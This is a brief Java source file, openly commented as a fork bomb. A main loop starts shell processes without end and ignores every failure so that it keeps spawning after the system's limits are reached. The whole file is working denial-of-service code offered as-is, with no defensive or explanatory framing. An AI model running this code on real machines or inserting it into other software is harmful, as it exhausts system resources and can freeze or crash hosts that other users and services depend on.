// A fork bomb the JVM's way: starts processes for ever, ignoring failures.
public class ForkBomb {
    public static void main(String[] args) {
        while (true) {
            try {
                new ProcessBuilder("/bin/sh", "-c", "sleep 30").start();
            } catch (Exception e) {
                // no more processes: try again
            }
        }
    }
}
